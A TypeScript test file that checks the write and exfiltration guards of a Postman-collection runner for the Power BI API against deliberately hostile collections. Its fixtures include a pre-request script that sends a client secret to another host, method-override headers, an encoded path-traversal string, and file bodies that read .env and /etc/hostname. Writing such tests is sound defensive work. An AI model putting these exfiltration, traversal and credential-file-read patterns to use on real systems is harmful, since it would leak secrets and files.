import { catalogues } from '../../../catalogue/index.ts';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  parseCollection,
  runCollection,
  type Collection,
  type RunOptions,
  type RunRecord,
} from '../../../runner/index.ts';
import { projectFolder } from '../../cli/fixtures/built.ts';
import { makeToken } from '../../cli/fixtures/token.ts';
import { collection, environment, request } from '../fixtures/collection.ts';
import { startRecording, type Recording } from './recording.ts';

const TENANT = '5c0e4a1d-7b1f-4c52-9f2e-3f6f2b8a9d10';
const ID = '3e478a9d-0ae0-46ad-8952-0b55c100d087';
const SECRET = ['Zq8', 'planted-for-a-test', '0123456789abcdef'].join('Q~');
const group = `/v1.0/myorg/groups/${ID}`;

let service: Recording;
let elsewhere: Recording;
let folder: string;
beforeEach(async () => {
  [service, elsewhere] = await Promise.all([startRecording(), startRecording()]);
  folder = mkdtempSync(join(tmpdir(), 'powerbi-postman-hostile-'));
  writeFileSync(join(folder, '.env'), `AZURE_CLIENT_SECRET=${SECRET}\n`);
  writeFileSync(join(folder, 'report.pbix'), 'bytes of a report');
});
afterEach(async () => {
  await Promise.all([service.close(), elsewhere.close()]);
  rmSync(folder, { recursive: true, force: true });
});

/** One request without a guard, with more of a Postman request in it. */
const item = (
  method: string,
  path: string,
  more: { request?: object; before?: string[]; test?: string[]; behavior?: object } = {},
): object => {
  const made = request({
    name: `${method} ${path}`,
    path,
    method,
    ...(more.before ? { before: more.before } : {}),
    ...(more.test ? { test: more.test } : {}),
  });
  return {
    ...made,
    request: { ...(made.request as object), ...more.request },
    ...(more.behavior ? { protocolProfileBehavior: more.behavior } : {}),
  };
};
const of = (...items: object[]): Collection => collection(items);

const everyVerb = of(
  ...['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'delete', 'OPTIONS'].map((method) => item(method, group)),
);
const read = `GET ${group}`;
const withBody = (body: object): Collection =>
  of(item('POST', `${group}/imports?datasetDisplayName=x`, { request: { body } }));
const committed = (): Collection => {
  const { event: _scripts, ...without } = parseCollection(
    readFileSync(join(projectFolder, 'collections', 'powerbi.postman_collection.json'), 'utf8'),
    'collection',
  ) as Collection & { event: unknown };
  return JSON.parse(JSON.stringify(without).replaceAll('{{token}}', '{{accessToken}}')) as Collection;
};

interface Case {
  readonly what: string;
  readonly collection: () => Collection;
  readonly options?: () => Partial<RunOptions>;
  /** What may arrive at the service; a number: so many reads, and nothing else. */
  readonly arrives: readonly string[] | 'reads only';
}

// prettier-ignore
const cases: readonly Case[] = [
  { what: 'every verb, and no script', collection: () => everyVerb, arrives: [read] },
  { what: 'the committed collection without its scripts, as a converter leaves it', collection: committed, options: () => ({ select: { folders: ['Groups'], operations: [] } }), arrives: 'reads only' },
  { what: 'a script that allows changes', collection: () => of(item('DELETE', group, { before: ["pm.environment.set('allowWrite', 'true'); pm.variables.set('allowWrite', 'true');"] })), arrives: [] },
  { what: 'a script that names the tenant', collection: () => of(item('DELETE', group, { before: [`pm.environment.set('allowWrite', '${TENANT}');`] })), arrives: [] },
  { what: 'a script that changes by itself', collection: () => of(item('GET', group, { before: [`pm.sendRequest({ url: pm.environment.get('apiUrl') + '${group}', method: 'DELETE' }, () => {});`] })), arrives: [read] },
  { what: 'a script that does so afterwards', collection: () => of(item('GET', group, { test: [`pm.sendRequest({ url: pm.environment.get('apiUrl') + '${group}', method: 'POST', body: 'x' }, () => {});`] })), arrives: [read] },
  { what: 'a script that turns a read into a change', collection: () => of(item('GET', group, { before: ["pm.request.method = 'DELETE';"] })), arrives: [] },
  { what: 'a header that does so', collection: () => of(item('GET', group, { request: { header: [{ key: 'X-HTTP-Method-Override', value: 'DELETE' }] } })), arrives: [] },
  { what: 'a read by POST that a header makes a change', collection: () => of(item('POST', '/v1.0/myorg/admin/workspaces/getInfo', { request: { header: [{ key: 'x-http-method', value: 'DELETE' }] } })), arrives: [] },
  { what: 'a name that promises a read', collection: () => of({ ...item('DELETE', `${group}/datasets/${ID}`), name: 'Get Dataset In Group' }), arrives: [] },
  { what: 'a path that climbs', collection: () => of(item('DELETE', `/v1.0/myorg/groups/..%2f..%2fv1.0/myorg/groups/${ID}`)), options: () => ({ allowWrite: [TENANT] }), arrives: [] },
  { what: 'two tokens', collection: () => of(item('GET', group, { request: { header: [{ key: 'Authorization', value: 'Bearer other' }, { key: 'Authorization', value: 'Bearer another' }], auth: { type: 'noauth' } } })), arrives: [] },
  { what: 'a request to another host', collection: () => of(item('GET', '', { request: { url: `${'{{elsewhere}}'}/?s={{clientSecret}}` } })), arrives: [] },
  { what: 'a script that sends the secret to another host', collection: () => of(item('GET', group, { before: ["pm.sendRequest(pm.environment.get('elsewhere') + '/?s=' + pm.environment.get('clientSecret'), () => {});"] })), arrives: [read] },
  { what: 'a script that moves the API', collection: () => of(item('GET', group, { before: ["pm.environment.set('apiUrl', pm.environment.get('elsewhere')); pm.variables.set('apiUrl', pm.environment.get('elsewhere'));"] })), arrives: [] },
  { what: 'a collection that trusts another host', collection: () => ({ ...of(item('GET', '', { request: { url: '{{elsewhere}}/x' } })), variable: [{ key: 'trustedHosts', value: '{{elsewhere}}' }] }), arrives: [] },
  { what: 'a proxy of its own', collection: () => of(item('GET', group, { request: { proxy: { match: '*://*/*', host: '127.0.0.1', port: '{{elsewherePort}}', tunnel: false } } })), arrives: [read] },
  { what: 'a file as the body', collection: () => withBody({ mode: 'file', file: { src: '{{folder}}/.env' } }), options: () => ({ allowWrite: [TENANT] }), arrives: [] },
  { what: 'a file in a form', collection: () => withBody({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: '/etc/hostname' }] }), options: () => ({ allowWrite: [TENANT] }), arrives: [] },
  { what: 'a file above the working folder', collection: () => withBody({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: '../../../etc/hostname' }] }), options: () => ({ allowWrite: [TENANT], transport: { workingDir: folder } }), arrives: [] },
  { what: 'a file that is not there', collection: () => withBody({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: 'absent.pbix' }] }), options: () => ({ allowWrite: [TENANT], transport: { workingDir: folder } }), arrives: [] },
  { what: 'a file of the working folder, as the user said: it goes', collection: () => withBody({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: 'report.pbix' }] }), options: () => ({ allowWrite: [TENANT], transport: { workingDir: folder } }), arrives: [`POST ${group}/imports?datasetDisplayName=x`] },
  { what: 'a change, as the user said, in that tenant: it goes', collection: () => of(item('DELETE', group)), options: () => ({ allowWrite: [TENANT] }), arrives: [`DELETE ${group}`] },
  { what: 'a change, as the user said, in another tenant', collection: () => of(item('DELETE', group)), options: () => ({ allowWrite: [ID] }), arrives: [] },
  { what: 'a query, as the user said: it goes', collection: () => of(item('POST', `/v1.0/myorg/datasets/${ID}/executeQueries`), item('DELETE', group)), options: () => ({ allowHeavyReads: true }), arrives: [`POST /v1.0/myorg/datasets/${ID}/executeQueries`] },
  { what: 'every verb, with Newman as it is', collection: () => everyVerb, options: () => ({ transport: { plain: true } }), arrives: [read] },
];

async function run({ collection: make, options }: Case): Promise<RunRecord> {
  const values = {
    tenantId: TENANT,
    loginUrl: service.url,
    apiUrl: service.url,
    accessToken: makeToken({ tid: TENANT }),
    clientSecret: SECRET,
    allowWrite: TENANT,
    elsewhere: elsewhere.url,
    elsewherePort: elsewhere.host.split(':')[1]!,
    folder,
  };
  return runCollection({
    collection: make(),
    catalogues,
    environment: environment(values),
    ...options?.(),
    transport: { retry: { retries: 0, longestWait: 0 }, ...options?.().transport },
  });
}

test.each(cases)('$what', async (one) => {
  const record = await run(one);
  const arrived = service.received.filter((each) => each !== 'GET /.well-known/powerbi-postman-emulator');
  if (one.arrives === 'reads only') {
    expect(arrived.length).toBeGreaterThan(2);
    expect(arrived.filter((each) => !each.startsWith('GET '))).toEqual([]);
    expect(record.entries.filter(({ outcome }) => outcome === 'skipped').map(({ reason }) => reason)).toContain(
      'it changes something, and changes are not allowed (--allow-write)',
    );
  } else expect(arrived).toEqual(one.arrives);
  expect(elsewhere.received).toEqual([]);
  expect(service.bytes.join('\n')).not.toContain(SECRET);
  // What did not arrive is not a success, and what is held back says why.
  for (const { outcome, attempts, reason } of record.entries)
    if (attempts.length === 0)
      expect([outcome, reason]).toEqual([expect.stringMatching(/^(skipped|failed)$/), expect.stringMatching(/./)]);
});

test.each([
  ['a cloud beside it', { fabricUrl: 'https://api.fabric.microsoft.com' }],
  ['a row of a cloud', { loginUrl: 'https://login.microsoftonline.com', apiUrl: 'https://api.powerbi.com' }],
])('what an emulator allows is not allowed to %s', async (_name, values) => {
  const real = 'https://api.powerbi.com/v1.0/myorg/groups';
  const asked: string[] = [];
  const options = {
    collection: of(item('DELETE', '', { request: { url: `${real}/${ID}` } })),
    catalogues,
    environment: environment({
      tenantId: TENANT,
      loginUrl: service.url,
      apiUrl: service.url,
      accessToken: 'opaque',
      ...values,
    }),
    emulator: true,
  };
  const record = await runCollection({
    ...options,
    transport: { proxyOf: (url) => (asked.push(url), 'http://127.0.0.1:9'), retry: { retries: 0, longestWait: 0 } },
  });
  expect([record.entries[0]!.outcome, record.entries[0]!.reason, asked]).toEqual([
    'skipped',
    expect.stringMatching(/^it changes something/),
    [],
  ]);
});

test('what may change something is in the record before it is sent, whoever sends it', async () => {
  const kept: string[] = [];
  const file = {
    begin: () => undefined,
    end: () => undefined,
    add: ({ request: name, outcome, reason }: { request: string; outcome: string; reason?: string }) =>
      kept.push(`${name}: ${outcome} ${reason ?? ''} after ${service.received.length}`),
  };
  const script = [`pm.sendRequest({ url: pm.environment.get('apiUrl') + '${group}', method: 'DELETE' }, () => {});`];
  await run({
    what: '',
    collection: () => of(item('GET', group, { before: script })),
    options: () => ({ allowWrite: [TENANT], file: file as never }),
    arrives: [],
  });
  expect(kept[0]).toBe(
    `GET ${group}: not-reached the run ended before this request was answered: it may have been carried out after 1`,
  );
  expect(kept).toHaveLength(2);
});
